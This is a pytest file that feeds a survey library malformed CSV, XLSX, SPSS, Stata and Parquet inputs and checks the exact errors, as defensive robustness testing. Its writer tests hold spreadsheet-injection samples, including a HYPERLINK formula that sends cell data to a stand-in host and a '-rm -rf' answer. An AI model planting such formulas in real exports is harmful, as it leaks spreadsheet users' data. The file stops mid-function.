"""Hostile input and faults for reading and writing response files (issue 15).

Every case is a real bad input (or a valid input of an awkward shape) and
asserts the exact outcome: the error class with a message fragment naming the
place (row as a spreadsheet shows it, header = row 1; column; sheet and cell),
or a warning recorded in ``frame.attrs["warnings"]``, or the correct reading.

Readers: malformed CSV (ragged, truncated, unclosed quotes, encodings, NUL
bytes, empty, header only, BOM, blank and repeated header names, wrong
delimiter, cells that do not fit the questionnaire), malformed XLSX (not a
zip, formulas without a saved result, empty or missing sheets), SPSS/Stata
(truncated, not such a file, string-coded answers) and Parquet (corrupt, blank
names). Writers: formula-leading text in every writer and format, cells too
long or unstorable in XLSX, unwritable destinations.
"""

from __future__ import annotations

import csv
import io as _io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pandas as pd
import pyreadstat
import pytest

import survey_kit as sk
from survey_kit._files import output_policy
from survey_kit.errors import DataError, ReportError, SurveyKitError, UsageError
from survey_kit.io.export import to_export
from survey_kit.io.formats import write_raw
from survey_kit.io.read import read_responses
from survey_kit.io.write import convert_responses, write_responses

WIDTH = 51          # columns of the firm export (conftest.firm_raw)


@dataclass
class Err:
    """The expected error: class, message fragment (regex) and where it points."""

    cls: type[SurveyKitError]
    match: str
    row: Any = "any"
    column: Any = "any"


@dataclass
class Ok:
    """The file reads; ``check(frame)`` asserts what it holds; ``warns`` a recorded warning."""

    check: Callable[[pd.DataFrame], None] | None = None
    warns: str | None = None


def _expect(outcome: Err | Ok, read: Callable[[], pd.DataFrame]) -> None:
    if isinstance(outcome, Err):
        with pytest.raises(outcome.cls, match=outcome.match) as info:
            read()
        assert "\n" not in str(info.value).split(":", 1)[0]
        if outcome.row != "any":
            assert info.value.row == outcome.row
        if outcome.column != "any":
            assert info.value.column == outcome.column
        return
    frame = read()
    warnings = frame.attrs["warnings"]
    if outcome.warns is None:
        assert warnings == [], warnings
    else:
        assert any(re.search(outcome.warns, w) for w in warnings), warnings
    if outcome.check is not None:
        outcome.check(frame)


# ---------------------------------------------------------------------------
# CSV: every case is the firm export (6 respondents, rows 2-7) with one fault


def _records(raw: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(_io.StringIO(raw.to_csv(index=False), newline="")))


def _join(records: list[list[str]]) -> str:
    buf = _io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(records)
    return buf.getvalue()


def _edit(fn: Callable[[list[list[str]]], None]) -> Callable[[pd.DataFrame], str]:
    """A fault made on the records (header = records[0], row n = records[n - 1])."""
    def make(raw: pd.DataFrame) -> str:
        recs = _records(raw)
        fn(recs)
        return _join(recs)
    return make


def _frame(fn: Callable[[pd.DataFrame], None]) -> Callable[[pd.DataFrame], str]:
    """A fault made on the table, written by pandas."""
    def make(raw: pd.DataFrame) -> str:
        fn(raw)
        return raw.to_csv(index=False)
    return make


def _text(fn: Callable[[str], str | bytes]) -> Callable[[pd.DataFrame], str | bytes]:
    """A fault made on the file's text."""
    return lambda raw: fn(raw.to_csv(index=False))


def _set(row: int, col: str, value: Any) -> Callable[[pd.DataFrame], None]:
    def fn(raw: pd.DataFrame) -> None:
        if not isinstance(value, (int, float)) and raw[col].dtype != object:
            raw[col] = raw[col].astype(object)
        raw.loc[row - 2, col] = value
    return fn


def _cut(rec: int, n: int):
    return _edit(lambda r: r.__setitem__(rec, r[rec][:n]))


def _many_short(r):
    r[2] = r[2][:20]
    r[4] = r[4][:30]


def _every_row_longer(r):
    for rec in r[1:]:
        rec.append("")


def _blank_tail(header_only: bool):
    def fn(r):
        r[0] += ["", ""]
        if not header_only:
            for rec in r[1:]:
                rec += ["", ""]
    return _edit(fn)


def _blank_with_data(r):
    r[0].append("")
    for rec in r[1:]:
        rec.append("")
    r[3][-1] = "stray note"


def _blank_middle_empty(r):
    r[0].insert(5, "")
    for rec in r[1:]:
        rec.insert(5, "")


def _whitespace_name(r):
    r[0].append("   ")
    for rec in r[1:]:
        rec.append(" ")


def _rename(**names):
    def fn(r):
        r[0] = [names.get(h, h) for h in r[0]]
    return _edit(fn)


def _truncate_in_quote(text: str) -> str:
    cut = text.index("long answer, with a comma") + len("long ans")
    return text[:cut]


def _unclosed_quote(raw: pd.DataFrame) -> str:
    raw["Q16"] = "plain answer"
    return raw.to_csv(index=False).replace("R003,", 'R003,"', 1)


def _cut_in_character(bom: bytes):
    """The export whose last cell is Japanese text, cut one byte into its last character."""
    def make(raw: pd.DataFrame) -> bytes:
        raw = raw[[c for c in raw.columns if c != "Q16"] + ["Q16"]]
        raw.loc[5, "Q16"] = "日本語の回答"
        return bom + raw.to_csv(index=False).encode().rstrip(b"\n")[:-1]
    return make


def _blank_line_after(rec: int):
    def fn(text: str) -> str:
        recs = list(csv.reader(_io.StringIO(text, newline="")))
        return _join(recs[:rec]) + "\n" + _join(recs[rec:])
    return fn


def _qualtrics_short(raw: pd.DataFrame) -> str:
    recs = _records(raw)
    header = recs[0]
    rows = [header, [f"Question text of {c}" for c in header],
            [f'{{"ImportId":"QID{i}"}}' for i in range(len(header))]] + recs[1:]
    rows[4] = rows[4][:10]             # the second respondent: row 5 of the file
    return _join(rows)


def _same_as_plain(f: pd.DataFrame) -> None:
    assert f.index.tolist() == ["R001", "R002", "R003", "R004", "R005", "R006"]
    assert f.loc["R003", "comments"] == "便利です, でも\n価格が高い"
    assert f["sector"].tolist()[:3] == ["manufacturing", "business_services",
                                       "digital_services"]


def _value(var, row_id, expected):
    def check(f):
        got = f.loc[row_id, var]
        assert got == expected, got
    return check


HYPERLINK = '=HYPERLINK("http://x/?"&A1,"click")'
LONG_TEXT = "長い回答。" * 20_000

CSV_CASES = [
    # rows of the wrong width
    pytest.param(_cut(2, 20), "x.csv", Err(DataError, rf"row 3 has 20 cells where the header has "
                                                      rf"{WIDTH}; its missing cells", row=3),
                 id="short-row-in-the-middle"),
    pytest.param(_cut(4, WIDTH - 1), "x.csv",
                 Err(DataError, rf"row 5 has {WIDTH - 1} cells where the header has {WIDTH}",
                     row=5), id="row-short-by-one-cell"),
    pytest.param(_edit(_many_short), "x.csv",
                 Err(DataError, r"row 3 has 20 cells .*\(1 other row\(s\) differ too: 5\)",
                     row=3), id="several-short-rows"),
    pytest.param(_edit(lambda r: r[3].extend(["x", "y"])), "x.csv",
                 Err(DataError, rf"row 4 has {WIDTH + 2} cells where the header has {WIDTH}: "
                                "the extra cells belong to no column", row=4),
                 id="long-row-in-the-middle"),
    pytest.param(_edit(lambda r: r[1].append("x")), "x.csv",
                 Err(DataError, rf"row 2 has {WIDTH + 1} cells", row=2),
                 id="long-first-row-not-taken-as-index"),
    pytest.param(_edit(_every_row_longer), "x.csv",
                 Err(DataError, r"row 2 has 52 cells .*5 other row\(s\) differ too", row=2),
                 id="separator-after-every-data-row"),
    pytest.param(_text(lambda t: t.rstrip("\n")[:-25]), "x.csv",
                 Err(DataError, r"the last row \(row 7\) has \d+ of the header's 51 cells: the "
                                r"file looks truncated", row=7), id="truncated-mid-row"),
    pytest.param(lambda raw: _text(_truncate_in_quote)(
        raw.assign(Q16=raw["Q16"].where(raw.index != 5, "long answer, with a comma"))),
        "x.csv", Err(DataError, r"row 7 opens a quoted cell that is never closed: the file "
                                "ends inside it", row=7), id="truncated-inside-a-quoted-cell"),
    pytest.param(_unclosed_quote, "x.csv",
                 Err(DataError, r"row 4 opens a quoted cell that is never closed", row=4),
                 id="quote-never-closed"),
    # bytes and encodings
    pytest.param(lambda raw: b"", "x.csv", Err(DataError, "the file is empty"),
                 id="empty-file"),
    pytest.param(lambda raw: b" \n\n  \r\n", "x.csv", Err(DataError, "the file is empty"),
                 id="whitespace-only-file"),
    pytest.param(_text(lambda t: t.split("\n", 1)[0] + "\n"), "x.csv",
                 Ok(lambda f: len(f) == 0 or pytest.fail("rows"),
                    warns="the file holds a header but no responses"), id="header-only"),
    pytest.param(_text(lambda t: t.split("\n", 1)[0]), "x.csv",
                 Ok(lambda f: len(f) == 0 or pytest.fail("rows"),
                    warns="the file holds a header but no responses"),
                 id="header-only-without-newline"),
    pytest.param(_text(lambda t: "\ufeff".encode() + t.encode()), "x.csv",
                 Ok(lambda f: (_same_as_plain(f), f.attrs["encoding"] == "utf-8-sig"
                               or pytest.fail("enc"))), id="utf8-bom"),
    pytest.param(_text(lambda t: t.encode("utf-16")), "x.csv",
                 Ok(lambda f: (_same_as_plain(f), f.attrs["encoding"] == "utf-16"
                               or pytest.fail("enc"))), id="utf16-bom"),
    pytest.param(_text(lambda t: t.encode("cp932")), "x.csv",
                 Ok(lambda f: (_same_as_plain(f), f.attrs["encoding"] == "cp932"
                               or pytest.fail("enc"))), id="cp932-shift-jis"),
    pytest.param(_text(lambda t: t.replace("R004", "R0\x0004").encode()), "x.csv",
                 Err(DataError, r"binary file, not CSV text \(it contains NUL bytes\)"),
                 id="nul-byte"),
    pytest.param(_text(lambda t: t.replace("AI tools", "caf\xe9").encode("utf-8").replace(
        "caf\xe9".encode(), b"caf\xe9")), "x.csv",
        Err(DataError, r"cannot decode byte\(s\) b'\\xe9' at line 7: the file is neither UTF-8 "
                       "nor CP932", row=7, column="Q16"), id="latin-1-byte"),
    pytest.param(_cut_in_character(b""), "x.csv",
                 Err(DataError, r"the file ends in the middle of a character \(line 8 of the "
                                r"text\): it looks truncated"), id="truncated-inside-a-character"),
    pytest.param(_cut_in_character(b"\xef\xbb\xbf"), "x.csv",
                 Err(DataError, "the file ends in the middle of a character"),
                 id="truncated-inside-a-character-after-bom"),
    pytest.param(_text(lambda t: t + "\ufeff" + t), "x.csv",
                 Err(DataError, r"6 respondent id\(s\) appear more than once .*'R001' in rows "
                                "2, 9", row=9, column="respondent_id"),
                 id="two-exports-concatenated"),
    pytest.param(_text(lambda t: t.replace("\n", "\r\n")), "x.csv",
                 Ok(_value("comments", "R003", "便利です, でも\r\n価格が高い")),
                 id="crlf-line-ends"),
    pytest.param(_text(lambda t: t.replace("\n", "\r")), "x.csv",
                 Ok(lambda f: f.index.tolist()[-1] == "R006" or pytest.fail("ids")),
                 id="old-mac-cr-line-ends"),
    # the header
    pytest.param(_text(lambda t: "\n" + t), "x.csv",
                 Err(DataError, "row 1 holds no column names; the header must be the first row",
                     row=1), id="blank-line-above-header"),
    pytest.param(lambda raw: ",,,\n1,2,3,4\n", "x.csv",
                 Err(DataError, "row 1 holds no column names", row=1),
                 id="header-of-blank-names"),
    pytest.param(_text(lambda t: "sep=,\n" + t), "x.csv",
                 Err(DataError, "row 1 is Excel's 'sep=,' line, not the header", row=1),
                 id="excel-sep-line"),
    pytest.param(lambda raw: raw.to_csv(index=False, sep=";"), "x.csv",
                 Err(DataError, "the header is a single cell holding ';': the file seems "
                                "separated by ';', not by commas", row=1),
                 id="semicolon-separated"),
    pytest.param(lambda raw: raw.to_csv(index=False, sep="\t"), "x.csv",
                 Err(DataError, r"seems separated by tabs, not by commas; give the file the "
                                r"extension \.tsv", row=1), id="tab-separated-named-csv"),
    pytest.param(lambda raw: raw.to_csv(index=False, sep="\t"), "x.txt", Ok(_same_as_plain),
                 id="tab-separated-txt"),
    pytest.param(_blank_tail(header_only=False), "x.csv",
                 Ok(_same_as_plain, warns=r"2 column\(s\) with a blank name and no data left out "
                                          r"\(spreadsheet column\(s\) AZ, BA\)"),
                 id="excel-trailing-blank-columns"),
    pytest.param(_blank_tail(header_only=True), "x.csv",
                 Ok(_same_as_plain, warns=r"2 column\(s\) with a blank name and no data"),
                 id="header-ends-in-blank-names-rows-do-not"),
    pytest.param(_edit(_blank_with_data), "x.csv",
                 Err(DataError, r"column 52 \(AZ\) has no name in the header \(row 1\) but holds "
                                r"data in 1 row\(s\), first in row 4", row=4, column="AZ"),
                 id="blank-name-column-with-data"),
    pytest.param(_rename(os=""), "x.csv",
                 Err(DataError, r"column 6 \(F\) has no name in the header", row=2, column="F"),
                 id="blank-name-in-the-middle-with-data"),
    pytest.param(_edit(_blank_middle_empty), "x.csv",
                 Ok(_same_as_plain, warns=r"1 column\(s\) with a blank name .*column\(s\) F\)"),
                 id="blank-name-in-the-middle-empty"),
    pytest.param(_edit(_whitespace_name), "x.csv",
                 Ok(_same_as_plain, warns=r"column\(s\) AZ\)"), id="whitespace-column-name"),
    pytest.param(_rename(Q9="Q8"), "x.csv",
                 Err(DataError, r"column name 'Q8' appears twice in the header .*'Q8' as columns "
                                r"\d+ \([A-Z]+\) and", row=1, column="Q8"),
                 id="repeated-column-name"),
    pytest.param(_rename(Q9="Q8", Q11="Q8"), "x.csv",
                 Err(DataError, "column name 'Q8' appears three times", row=1, column="Q8"),
                 id="name-three-times"),
    pytest.param(_rename(Q9="Q8 "), "x.csv",
                 Err(DataError, "column name 'Q8' appears twice", column="Q8"),
                 id="repeat-differing-by-a-space"),
    pytest.param(_rename(Q9="Q8", Q14="Q6"), "x.csv",
                 Err(DataError, r"2 repeated name\(s\): 'Q6' as columns .*; 'Q8' as columns"),
                 id="two-repeated-names"),
    # rows and cells
    pytest.param(_text(_blank_line_after(3)), "x.csv",
                 Ok(_same_as_plain, warns=r"1 empty row\(s\) skipped: 4"),
                 id="blank-line-between-rows"),
    pytest.param(_text(lambda t: t.replace("\nR004", "\n" + "," * (WIDTH - 1) + "\nR004")),
                 "x.csv", Ok(_same_as_plain, warns=r"1 empty row\(s\) skipped: 5"),
                 id="row-of-separators-only"),
    pytest.param(_text(lambda t: t.replace("\nR004", "\n   \nR004")), "x.csv",
                 Err(DataError, r"the respondent id is blank in 1 row\(s\): 5", row=5,
                     column="respondent_id"), id="line-of-spaces"),
    pytest.param(_frame(_set(3, "Q1", 7)), "x.csv",
                 Err(DataError, r"column 'Q1': 1 unknown code\(s\) for question 'sector'", row=3,
                     column="Q1"), id="unknown-code"),
    pytest.param(_frame(_set(3, "Q1", "1.5")), "x.csv",
                 Err(DataError, r"unknown code\(s\) for question 'sector'", row=3, column="Q1"),
                 id="fractional-code"),
    pytest.param(_frame(_set(4, "Q7_1", 2)), "x.csv",
                 Err(DataError, "column 'Q7_1'", row=4, column="Q7_1"), id="multi-cell-not-0-1"),
    pytest.param(_frame(_set(3, "Q2", 10**9)), "x.csv",
                 Ok(_value("employees", "R002", 1e9)), id="out-of-range-number-kept"),
    pytest.param(_frame(_set(3, "Q2", -5)), "x.csv",
                 Ok(_value("employees", "R002", -5.0)), id="negative-number-kept"),
    pytest.param(_frame(_set(3, "Q2", "many")), "x.csv",
                 Err(DataError, r"1 non-numeric value\(s\) for numeric question 'employees' "
                                r"\(row 3: 'many'\)", row=3, column="Q2"),
                 id="text-in-numeric-column"),
    pytest.param(_frame(_set(3, "Q2", "inf")), "x.csv",
                 Err(DataError, r"non-numeric value\(s\) for numeric question 'employees' "
                                r"\(row 3: inf\)", row=3, column="Q2"), id="infinity-in-numeric"),
    pytest.param(_frame(_set(3, "Q2", "1e999")), "x.csv",
                 Err(DataError, r"non-numeric value\(s\) .*\(row 3: inf\)", row=3, column="Q2"),
                 id="number-overflowing-to-infinity"),
    pytest.param(_frame(_set(3, "Q2", "nan")), "x.csv",
                 Err(DataError, r"non-numeric value\(s\) .*\(row 3: 'nan'\)", row=3,
                     column="Q2"), id="word-nan-in-numeric"),
    pytest.param(_frame(_set(3, "Q2", "1,200")), "x.csv", Ok(_value("employees", "R002", 1200.0)),
                 id="thousands-separator"),
    pytest.param(_frame(_set(3, "Q2", "１２")), "x.csv", Ok(_value("employees", "R002", 12.0)),
                 id="full-width-digits"),
    pytest.param(_frame(_set(3, "start_time", "2024-02-30 10:00:00")), "x.csv",
                 Err(DataError, "not dates and times", row=3, column="start_time"),
                 id="impossible-date"),
    pytest.param(_frame(lambda raw: raw.pop("Q5")), "x.csv",
                 Err(DataError, r"1 column\(s\) the questionnaire names are not in the file: "
                                "'Q5'", column="Q5"), id="missing-required-column"),
    pytest.param(_frame(lambda raw: raw.pop("respondent_id")), "x.csv",
                 Err(DataError, "the respondent id column 'respondent_id' is missing",
                     column="respondent_id"), id="missing-id-column"),
    pytest.param(_frame(_set(4, "respondent_id", "R001")), "x.csv",
                 Err(DataError, r"'R001' in rows 2, 4", row=4, column="respondent_id"),
                 id="repeated-respondent-id"),
    pytest.param(_frame(_set(5, "respondent_id", "")), "x.csv",
                 Err(DataError, r"the respondent id is blank in 1 row\(s\): 5", row=5),
                 id="blank-respondent-id"),
    pytest.param(_frame(_set(2, "respondent_id", "007")), "x.csv",
                 Ok(lambda f: f.index[0] == "007" or pytest.fail(f.index[0])),
                 id="id-with-leading-zeros-kept"),
    pytest.param(_frame(_set(2, "Q16", HYPERLINK)), "x.csv",
                 Ok(_value("comments", "R001", HYPERLINK)), id="formula-answer-read-as-typed"),
    pytest.param(_frame(_set(2, "Q16", LONG_TEXT)), "x.csv",
                 Ok(_value("comments", "R001", LONG_TEXT)), id="100k-character-answer"),
    pytest.param(_frame(_set(3, "Q16", "good\rbad")), "x.csv",
                 Err(DataError, r"row 3 has \d+ cells where the header has 51 \(1 other row\(s\) "
                                r"differ too: 4\)", row=3),
                 id="unquoted-carriage-return-splits-a-row"),
    pytest.param(_qualtrics_short, "x.csv",
                 Err(DataError, r"row 5 has 10 cells where the header has 51", row=5),
                 id="qualtrics-short-row-numbered-from-row-4"),
    pytest.param(lambda raw: _cut(3, 12)(raw).replace(",", "\t"), "x.tsv",
                 Err(DataError, r"row 4 has 12 cells where the header has 51", row=4),
                 id="tsv-short-row"),
]


@pytest.mark.parametrize("make,name,outcome", CSV_CASES)
def test_csv(tmp_path, firm_raw, firm_q, make, name, outcome):
    data = make(firm_raw)
    path = tmp_path / name
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")
    _expect(outcome, lambda: read_responses(path, firm_q))


def test_declared_encoding_that_is_wrong(tmp_path, firm_raw, firm_q):
    path = tmp_path / "sjis.csv"
    firm_raw.to_csv(path, index=False, encoding="cp932")
    _expect(Err(DataError, "the file is not utf-8 text.*try encoding='cp932'", row=2,
                column="Q16"), lambda: read_responses(path, firm_q, encoding="utf-8"))


@pytest.mark.parametrize("where,outcome", [
    pytest.param("folder", Err(DataError, "this is a folder, not a response file"),
                 id="folder-instead-of-file"),
    pytest.param("absent.csv", Err(DataError, "file not found"), id="file-not-found"),
    pytest.param("x.json", Err(DataError, "unsupported file extension '.json'"),
                 id="unknown-extension"),
])
def test_paths(tmp_path, firm_q, where, outcome):
    (tmp_path / "folder.csv").mkdir()
    (tmp_path / "x.json").write_text("{}")
    path = tmp_path / ("folder.csv" if where == "folder" else where)
    _expect(outcome, lambda: read_responses(path, firm_q))


# ---------------------------------------------------------------------------
# XLSX


def _workbook(raw: pd.DataFrame, path: Path, edit: Callable[[Any], None] | None = None) -> Path:
    """``raw`` as the sheet 'Data' of a workbook written by openpyxl, after ``edit(wb)``."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(list(raw.columns))
    for rec in raw.astype(object).where(raw.notna(), None).itertuples(index=False):
        ws.append(list(rec))
    if edit is not None:
        edit(wb)
    wb.save(path)
    return path


def _cell(ref: str, value: Any, sheet: str = "Data"):
    def edit(wb):
        if sheet not in wb.sheetnames:
            wb.create_sheet(sheet)
        wb[sheet][ref] = value
    return edit


def _cache(path: Path, value: str) -> Path:
    """Give every formula of the workbook the saved result ``value`` (as Excel would)."""
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    for name, data in parts.items():
        if name.startswith("xl/worksheets/"):
            parts[name] = re.sub(rb"(<f>[^<]*</f>)<v\s*/>", rb"\1<v>" + value.encode() + b"</v>",
                                 data)
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def _header(col: int, value: Any, data: dict[int, Any] | None = None):
    def edit(wb):
        ws = wb["Data"]
        ws.cell(row=1, column=col, value=value)
        for r, v in (data or {}).items():
            ws.cell(row=r, column=col, value=v)
    return edit


XLSX_CASES = [
    pytest.param(lambda raw, p: (p.write_bytes(b"respondent_id,Q1\nR1,1\n"), p)[1], {},
                 Err(DataError, r"cannot be read as an Excel workbook \(\.xlsx\)"),
                 id="csv-text-named-xlsx"),
    pytest.param(lambda raw, p: (p.write_bytes(_workbook(raw, p).read_bytes()[:1500]), p)[1],
                 {}, Err(DataError, "cannot be read as an Excel workbook"),
                 id="truncated-zip"),
    pytest.param(lambda raw, p: (p.write_bytes(b"PK\x03\x04" + b"\x00" * 200), p)[1], {},
                 Err(DataError, "cannot be read as an Excel workbook"), id="zip-header-garbage"),
    pytest.param(lambda raw, p: _workbook(raw, p, _cell("I3", "=1+1")), {},
                 Err(DataError, r"sheet 'Data': 1 cell\(s\) hold a formula without a saved result "
                                r"\(I3\), which would read as blank.*Open it in Excel or "
                                "LibreOffice and save it again.*or export the sheet as CSV",
                     row=3, column="I"), id="formula-without-saved-result"),
    pytest.param(lambda raw, p: _workbook(raw, p, lambda wb: [
        wb["Data"].__setitem__(f"P{r}", f"=O{r}") for r in range(2, 8)]), {},
                 Err(DataError, r"6 cell\(s\) hold a formula .*\(P2, P3, P4, P5, P6 \.\.\.\)",
                     row=2, column="P"), id="column-of-formulas"),
    pytest.param(lambda raw, p: _cache(_workbook(raw, p, _cell("I3", "=1+1")), "2"), {},
                 Ok(_value("sector", "R002", "business_services")),
                 id="formula-with-saved-result-reads"),
    pytest.param(lambda raw, p: _workbook(raw, p, _cell("A1", "=1+1", sheet="Notes")), {},
                 Ok(_same_as_plain), id="formula-on-a-sheet-not-read"),
    pytest.param(lambda raw, p: _workbook(raw, p, _cell("A1", "=1+1", sheet="Notes")),
                 {"sheet": "Notes"},
                 Err(DataError, r"sheet 'Notes': 1 cell\(s\) hold a formula", row=1, column="A"),
                 id="formula-on-the-sheet-chosen"),
    pytest.param(lambda raw, p: _workbook(raw.iloc[:0, :0], p), {},
                 Err(DataError, "the sheet is empty"), id="empty-sheet"),
    pytest.param(lambda raw, p: _workbook(raw, p), {"sheet": "Responses"},
                 Err(DataError, "sheet 'Responses' not found; the workbook has sheets 'Data'"),
                 id="missing-sheet-name"),
    pytest.param(lambda raw, p: _workbook(raw, p), {"sheet": 3},
                 Err(DataError, "sheet 3 not found; the workbook has sheets 'Data'"),
                 id="sheet-position-out-of-range"),
    pytest.param(lambda raw, p: _workbook(raw, p, _header(53, None, {4: "note"})), {},
                 Err(DataError, r"column 53 \(BA\) has no name in the header \(row 1\) but holds "
                                r"data in 1 row\(s\), first in row 4", row=4, column="BA"),
                 id="xlsx-blank-name-with-data"),
    pytest.param(lambda raw, p: _workbook(raw, p, _header(52, "  ")), {},
                 Ok(_same_as_plain, warns=r"1 column\(s\) with a blank name and no data left out "
                                          r"\(spreadsheet column\(s\) AZ\)"),
                 id="xlsx-blank-name-no-data"),
    pytest.param(lambda raw, p: _workbook(raw.rename(columns={"Q9": "Q8"}), p), {},
                 Err(DataError, "column name 'Q8' appears twice", row=1, column="Q8"),
                 id="xlsx-repeated-name"),
]


@pytest.mark.parametrize("make,kw,outcome", XLSX_CASES)
def test_xlsx(tmp_path, firm_raw, firm_q, make, kw, outcome):
    path = make(firm_raw, tmp_path / "x.xlsx")
    _expect(outcome, lambda: read_responses(path, firm_q, **kw))


# ---------------------------------------------------------------------------
# SPSS, Stata, Parquet


def _stat_ready(raw: pd.DataFrame) -> pd.DataFrame:
    out = raw.copy()
    for c in out.columns:
        if isinstance(out[c].dtype, pd.Int64Dtype):
            out[c] = out[c].astype(float)
        elif not pd.api.types.is_numeric_dtype(out[c].dtype):
            out[c] = out[c].astype(object)
    return out


def _sav(raw, p, **kw):
    pyreadstat.write_sav(_stat_ready(raw), str(p), **kw)
    return p


def _dta(raw, p):
    pyreadstat.write_dta(_stat_ready(raw), str(p))
    return p


def _chopped(writer, keep=600):
    def make(raw, p):
        writer(raw, p)
        p.write_bytes(p.read_bytes()[:keep])
        return p
    return make


def _string_coded(raw, p, **kw):
    raw = _stat_ready(raw)
    raw["Q1"] = raw["Q1"].map(lambda v: str(int(v)))
    return _sav(raw, p, **kw)


def _parquet(fn=None):
    def make(raw, p):
        if fn is not None:
            fn(raw)
        raw.to_parquet(p, index=False)
        return p
    return make


def _add_col(name, values):
    return lambda raw: raw.insert(len(raw.columns), name, values)


STAT_CASES = [
    pytest.param("x.sav", _chopped(_sav),
                 Err(DataError, r"cannot be read as an SPSS file \(\.sav\)"), id="truncated-sav"),
    pytest.param("x.sav", lambda raw, p: (p.write_text(raw.to_csv(index=False)), p)[1],
                 Err(DataError, "cannot be read as an SPSS file"), id="csv-named-sav"),
    pytest.param("x.sav", lambda raw, p: (p.write_bytes(b"$FL2" + b"\x00" * 300), p)[1],
                 Err(DataError, "cannot be read as an SPSS file"), id="sav-header-then-zeros"),
    pytest.param("x.dta", _chopped(_dta, 400), Err(DataError, r"cannot be read as a Stata file"),
                 id="truncated-dta"),
    pytest.param("x.dta", lambda raw, p: (p.write_bytes(b"<stata_dta><header>junk"), p)[1],
                 Err(DataError, "cannot be read as a Stata file"), id="not-a-dta"),
    pytest.param("x.sav", _string_coded,
                 Ok(lambda f: f["sector"].tolist()[:3] == ["manufacturing", "business_services",
                                                           "digital_services"]
                    or pytest.fail(f["sector"].tolist())), id="sav-codes-stored-as-text"),
    pytest.param("x.sav", lambda raw, p: _string_coded(raw, p, variable_value_labels={
        "Q1": {"1": "Factories", "2": "Services", "3": "Digital"}}),
                 Ok(_value("sector", "R003", "digital_services"),
                    warns=r"column 'Q1': the file's value labels for code\(s\) 1, 2, 3 are worded "
                          "differently from the questionnaire"),
                 id="sav-text-codes-with-text-labels"),
    pytest.param("x.sav", lambda raw, p: _sav(raw.assign(Q1=raw["Q1"].replace(3, 7)), p),
                 Err(DataError, r"unknown code\(s\) for question 'sector'.*\(row 3: 7", row=3,
                     column="Q1"), id="sav-unknown-code-names-case-number"),
    pytest.param("x.sav", lambda raw, p: _sav(raw.iloc[:0], p),
                 Ok(lambda f: len(f) == 0 or pytest.fail("rows"),
                    warns="the file holds a header but no responses"), id="sav-without-cases"),
    pytest.param("x.parquet", _chopped(_parquet(), 300),
                 Err(DataError, "cannot be read as a Parquet file"), id="truncated-parquet"),
    pytest.param("x.parquet", lambda raw, p: (p.write_bytes(b"PAR1" + b"\x00" * 64 + b"PAR1"),
                                              p)[1],
                 Err(DataError, "cannot be read as a Parquet file"), id="parquet-magic-only"),
    pytest.param("x.parquet", _parquet(lambda raw: raw.__setitem__(
        "Q2", ["8", "12", "many", "300", "1200", None])),
                 Err(DataError, r"non-numeric value\(s\) for numeric question 'employees' "
                                r"\(row 3: 'many'\)", row=3, column="Q2"),
                 id="parquet-text-in-numeric"),
    pytest.param("x.parquet", _parquet(_add_col("", ["x"] + [None] * 5)),
                 Err(DataError, r"column 52 \(AZ\) has no name in the header \(the file\) but "
                                "holds data", row=1, column="AZ"),
                 id="parquet-blank-name-with-data"),
    pytest.param("x.parquet", _parquet(_add_col("", [None] * 6)),
                 Ok(_same_as_plain, warns=r"1 column\(s\) with a blank name and no data"),
                 id="parquet-blank-name-no-data"),
]


@pytest.mark.parametrize("name,make,outcome", STAT_CASES)
def test_spss_stata_parquet(tmp_path, firm_raw, firm_q, name, make, outcome):
    path = make(firm_raw, tmp_path / name)
    _expect(outcome, lambda: read_responses(path, firm_q))


# ---------------------------------------------------------------------------
# writers

TRIGGER_ANSWERS = ["=1+1", "+1 more please", "-rm -rf", "@SUM(A1)", "\t=1+1", "\r=1+1",
                   HYPERLINK, '=HYPERLINK("http://x/?"&A1)']
SPREADSHEETS = ("csv", "tsv", "qualtrics", "xlsx")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_frame(firm_raw, firm_q, tmp_path):
    """The firm responses whose open answers (and a device fingerprint) are formulas."""
    firm_raw["Q16"] = TRIGGER_ANSWERS[:6]
    firm_raw["device_fingerprint"] = [HYPERLINK, "-x", "+y", "@z", "=A1", "fp"]
    firm_raw.loc[5, "respondent_id"] = "@R006"
    path = tmp_path / "hostile_source.csv"
    firm_raw.to_csv(path, index=False, quoting=csv.QUOTE_ALL)   # pandas leaves a lone \r bare
    return read_responses(path, firm_q)


def _cells(path: Path, fmt: str) -> list[Any]:
    """Every cell of a written file, as the spreadsheet's reader sees it."""
    if fmt == "xlsx":
        import openpyxl

        wb = openpyxl.load_workbook(path)
        out = []
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula"
                    out.append(c.value)
        return out
    with open(path, encoding="utf-8", newline="") as fh:
        return [v for row in csv.reader(fh, delimiter="\t" if fmt == "tsv" else ",")
                for v in row]


def _live(cells: list[Any]) -> list[str]:
    """Cells a spreadsheet would evaluate: formula-leading text that is no plain number."""
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [v for v in cells if isinstance(v, str) and v.startswith(TRIGGERS)
            and not number.fullmatch(v)]


def _writers(frame, q, folder: Path, fmt: str) -> list[Path]:
    """Every writer of the io room, to format ``fmt``."""
    ext = {"qualtrics": "csv"}.get(fmt, fmt)
    plain = frame.assign(note=TRIGGER_ANSWERS[:6]).rename(columns={"comments": "=comments"})
    out = [
        write_responses(frame, folder / f"labelled.{ext}", q, format=fmt),
        write_responses(plain, folder / f"plain.{ext}", format=fmt),
        convert_responses(frame, folder / f"converted.{ext}", q, format=fmt),
        convert_responses(frame.attrs["source"], folder / f"from_file.{ext}", q, format=fmt),
        write_raw(to_export(frame, q).assign(**{"@col": TRIGGER_ANSWERS[2:]}),
                  folder / f"raw.{ext}", fmt),
    ]
    return out


@pytest.mark.parametrize("fmt", SPREADSHEETS)
def test_no_writer_leaves_a_live_formula(tmp_path, hostile_frame, firm_q, fmt):
